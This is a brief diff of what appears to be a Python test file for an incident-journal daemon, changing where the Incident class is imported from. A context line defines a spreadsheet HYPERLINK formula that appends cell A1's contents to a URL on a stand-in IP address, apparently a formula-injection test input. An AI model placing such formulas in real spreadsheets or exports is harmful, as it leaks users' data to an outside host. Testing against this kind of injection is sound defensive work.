@@ -12,7 +12,7 @@ from daemon.commands.cli import main
 from daemon.journal.history import Entry
 from daemon.journal.journal import Journal
 from daemon.tune.incidents import Mark, read_marks, write_marks
-from rules.tuning.scoring import Incident
+from rules.tuning.incident import Incident
 from tests.rigs.bench import START_MS, Bench, swinging
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'
